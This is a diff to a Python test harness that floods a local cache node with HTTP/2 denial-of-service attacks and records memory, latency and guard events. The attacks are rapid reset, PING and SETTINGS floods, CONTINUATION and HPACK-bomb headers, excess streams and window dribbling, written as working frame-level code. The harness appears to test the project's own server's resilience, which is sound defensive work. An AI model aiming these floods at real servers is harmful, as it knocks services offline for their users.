@@ -21,12 +21,32 @@ Attacks (each against a fresh node: 2 shards, --memory 256MiB,
   idle_peers    --max-connections 600: 500 connections send only the peer
                 magic (the normal client's 4 connections are open already);
                 --idle-timeout 2s
+
+HTTP/2 floods (issue 11), against a node with one shard pinned to CPU 0, the
+client and the attacker on CPU 1, the attacker in SCHED_IDLE so that it
+never delays the client itself: an attacker process with two threads,
+each flooding one connection until the node ends it, then reconnecting,
+for as long as the normal client runs; it reads what the node sends
+unless the attack is about not reading:
+  rapid_reset   HEADERS of a Get then RST_STREAM(CANCEL), stream after stream
+  ping_flood    PINGs, reading nothing (their ACKs pile up)
+  settings      empty SETTINGS frames
+  empty_frames  a stream's HEADERS, then empty DATA frames on it
+  continuation  HEADERS without END_HEADERS, then 1-byte CONTINUATIONs
+  hpack_bomb    a 4,000-byte header entered in the dynamic table, then
+                streams whose headers name it 5 times (20 KB decoded each)
+  streams       streams opened 300 at a time (MAX_CONCURRENT_STREAMS is
+                100), bodies never sent
+  dribble       a 64 KiB value asked with an initial window of 0, then
+                WINDOW_UPDATEs of 1 byte
 """
 
 import argparse
 import json
+import multiprocessing
 import os
 import re
+import select
 import signal
 import socket
 import struct
@@ -56,11 +76,17 @@ def rss_mib(pid):
 
 
 class Node:
-    def __init__(self, extra):
+    def __init__(self, extra, pinned=False):
+        self.pinned = pinned
         self.port, self.http = free_port(), free_port()
-        args = [NODE, "--listen", f"127.0.0.1:{self.port}", "--http", f"127.0.0.1:{self.http}",
-                "--shards", "2", "--memory", "256MiB", "--max-value", "1MiB"] + extra
-        self.proc = subprocess.Popen(args, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL)
+        shards = "1" if pinned else "2"
+        args = (["taskset", "-c", "0"] if pinned else []) + [
+            NODE, "--listen", f"127.0.0.1:{self.port}", "--http", f"127.0.0.1:{self.http}",
+            "--shards", shards, "--memory", "256MiB", "--max-value", "1MiB"] + extra
+        # A file, never a pipe: nobody reads it while the attack runs, and a
+        # full pipe would stall the node.
+        self.log = open(f"/tmp/attacks-node-{self.port}.log", "w")
+        self.proc = subprocess.Popen(args, stderr=self.log, stdout=subprocess.DEVNULL)
         deadline = time.time() + 20
         while time.time() < deadline:
             try:
@@ -202,17 +228,176 @@ def attack_idle_peers(node):
     return socks
 
 
+def hpack_int(first, prefix_bits, value):
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = bytes([first | limit])
+    value -= limit
+    while value >= 128:
+        out += bytes([value % 128 + 128])
+        value //= 128
+    return out + bytes([value])
+
+
+def get_stream(stream, end_stream=True):
+    return h2_frame(1, 4, stream, grpc_headers(b"/cache.Cache/Get")) + h2_frame(
+        0, 1 if end_stream else 0, stream, get_message(b"mid"))
+
+
+def flood_rapid_reset():
+    stream = 1
+    while True:
+        burst = b""
+        for _ in range(200):
+            burst += h2_frame(1, 4, stream, grpc_headers(b"/cache.Cache/Get"))
+            burst += h2_frame(3, 0, stream, struct.pack(">I", 8))
+            stream += 2
+        yield burst
+
+
+def flood_ping():
+    burst = h2_frame(6, 0, 0, b"12345678") * 1000
+    while True:
+        yield burst
+
+
+def flood_settings():
+    burst = h2_frame(4, 0, 0, b"") * 500
+    while True:
+        yield burst
+
+
+def flood_empty_frames():
+    yield h2_frame(1, 4, 1, grpc_headers(b"/cache.Cache/Set"))
+    burst = h2_frame(0, 0, 1, b"") * 1000
+    while True:
+        yield burst
+
+
+def flood_continuation():
+    block = grpc_headers(b"/cache.Cache/Get")
+    yield h2_frame(1, 0, 1, block[:2])
+    i = 2
+    while True:
+        yield h2_frame(9, 0, 1, block[i:i + 1] or b"\x82")
+        i += 1
+
+
+def flood_hpack_bomb():
+    big = b"\x40" + hpack_int(0, 7, 6) + b"x-bomb" + hpack_int(0, 7, 4000) + b"b" * 4000
+    block = grpc_headers(b"/cache.Cache/Get")
+    yield h2_frame(1, 5, 1, block + big)
+    stream = 3
+    while True:
+        burst = b""
+        for _ in range(50):
+            burst += h2_frame(1, 5, stream, block + hpack_int(0x80, 7, 62) * 5)
+            stream += 2
+        yield burst
+
+
+def flood_streams():
+    block = grpc_headers(b"/cache.Cache/Set")
+    stream = 1
+    while True:
+        yield b"".join(h2_frame(1, 4, stream + 2 * i, block) for i in range(300))
+        stream += 600
+
+
+def flood_dribble():
+    yield get_stream(1)
+    while True:
+        yield h2_frame(8, 0, 1, struct.pack(">I", 1)) * 200
+
+
+class Flood:
+    """An attacker process: `threads` connections at a time, each flooding
+    until the node ends it, then a new one; stops on close()."""
+
+    def __init__(self, node, bursts, read=True, settings=b"", threads=2):
+        self.stop = multiprocessing.Event()
+        self.conns = multiprocessing.Value("i", 0)
+        self.proc = multiprocessing.Process(
+            target=self.attack, args=(node.port, bursts, read, settings, threads))
+        self.proc.start()
+
+    def attack(self, port, bursts, read, settings, threads):
+        # The attacker must not take the CPU the measuring client needs (2
+        # cores here): it runs only when nothing else wants that core.
+        os.sched_setaffinity(0, {1})
+        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
+
+        def one():
+            while not self.stop.is_set():
+                try:
+                    s = socket.create_connection(("127.0.0.1", port), timeout=2)
+                except OSError:
+                    time.sleep(0.01)
+                    continue
+                with self.conns.get_lock():
+                    self.conns.value += 1
+                try:
+                    s.sendall(PREFACE + h2_frame(4, 0, 0, settings))
+                    for burst in bursts():
+                        if self.stop.is_set():
+                            break
+                        if burst:
+                            s.sendall(burst)
+                        else:
+                            time.sleep(0.01)
+                        # Drain what has come (a socket with a timeout would
+                        # wait in recv even with MSG_DONTWAIT: ask first).
+                        while read and select.select([s], [], [], 0)[0]:
+                            if not s.recv(1 << 20):
+                                raise OSError("closed")
+                except OSError:
+                    pass  # ended by the node: next connection
+                finally:
+                    s.close()
+        ts = [threading.Thread(target=one) for _ in range(threads)]
+        for t in ts:
+            t.start()
+        for t in ts:
+            t.join()
+
+    def close(self):
+        self.stop.set()
+        self.proc.join(timeout=10)
+        if self.proc.is_alive():
+            self.proc.kill()
+
+
+def flood(bursts, **kw):
+    return lambda node: [Flood(node, bursts, **kw)]
+
+
 ATTACKS = {
     "peer_get": (attack_peer_get, []),
     "bodies": (attack_bodies, []),
     "never_reads": (attack_never_reads, []),
     "idle_peers": (attack_idle_peers, ["--max-connections", "600", "--idle-timeout", "2s"]),
+    "rapid_reset": (flood(flood_rapid_reset), []),
+    "ping_flood": (flood(flood_ping, read=False), []),
+    "settings": (flood(flood_settings), []),
+    "empty_frames": (flood(flood_empty_frames), []),
+    "continuation": (flood(flood_continuation), []),
+    "hpack_bomb": (flood(flood_hpack_bomb), []),
+    "streams": (flood(flood_streams), []),
+    "dribble": (flood(flood_dribble, settings=struct.pack(">HI", 4, 0)), []),
 }
+
+
+# Floods cost CPU, not memory: measured with the node alone on CPU 0 (one
+# shard) and the client and the attacker on CPU 1.
+FLOODS = {"rapid_reset", "ping_flood", "settings", "empty_frames", "continuation", "hpack_bomb",
+          "streams", "dribble"}
 
 
 def normal_client(node, seconds, out):
     """shardcache-loadtest in open loop: 2,000 Gets/s over 4 connections."""
-    r = subprocess.run([LOAD, "--target", f"127.0.0.1:{node.port}", "--connections", "4",
+    pin = ["taskset", "-c", "1"] if node.pinned else []
+    r = subprocess.run(pin + [LOAD, "--target", f"127.0.0.1:{node.port}", "--connections", "4",
                         "--rate", "2000", "--get-ratio", "1", "--keys", "1000", "--duration",
                         f"{seconds}s", "--json"], capture_output=True, text=True)
     try:
@@ -228,9 +413,10 @@ def preload(node):
 
 def run(name):
     attack, extra = ATTACKS[name]
-    node = Node(extra)
+    node = Node(extra, pinned=name in FLOODS)
     try:
         store(node, b"big", b"x" * (MIB - 64))
+        store(node, b"mid", b"m" * (64 << 10))
         preload(node)
         idle = {}
         normal_client(node, 3, idle)
@@ -253,6 +439,7 @@ def run(name):
         attack_s = time.time() - started
         for s in socks:
             s.close()
+        attack_conns = sum(s.conns.value for s in socks if isinstance(s, Flood))
         time.sleep(3)
         stop.set()
         sampler.join()
@@ -272,9 +459,16 @@ def run(name):
             "during_status": during.get("by_status"),
             "during_transport": during.get("transport_errors"),
             "guards": {k: int(v) for k, v in guards.items() if v != "0"},
+            "attack_connections": attack_conns,
         }
     finally:
         node.stop()
+
+
+def ratio(r):
+    if not r["idle_p99_us"] or not r["during_p99_us"]:
+        return "-"
+    return f"{r['during_p99_us'] / r['idle_p99_us']:.1f}x"
 
 
 def main():
@@ -290,13 +484,14 @@ def main():
         with open(a.json, "a") as f:
             for r in rows:
                 f.write(json.dumps(r) + "\n")
-    print("| attack | RSS before MiB | peak MiB | after MiB | normal client p99 idle / during µs | its requests ok | guard events |")
-    print("|---|---:|---:|---:|---:|---:|---|")
+    print("| attack | RSS before MiB | peak MiB | after MiB | normal client p99 idle / during µs (ratio) | its requests ok | attacker connections | guard events |")
+    print("|---|---:|---:|---:|---:|---:|---:|---|")
     for r in rows:
         ok = f"{r['during_ok']}/{r['during_requests']}" if r["during_ok"] is not None else r["during_error"]
         g = ", ".join(f"{k} {v}" for k, v in sorted(r["guards"].items()))
         print(f"| {r['attack']} | {r['rss_before_mib']} | {r['rss_peak_mib']} | {r['rss_after_mib']} | "
-              f"{r['idle_p99_us']} / {r['during_p99_us']} | {ok} | {g} |")
+              f"{r['idle_p99_us']} / {r['during_p99_us']} ({ratio(r)}) | {ok} | "
+              f"{r['attack_connections'] or ''} | {g} |")
 
 
 if __name__ == "__main__":
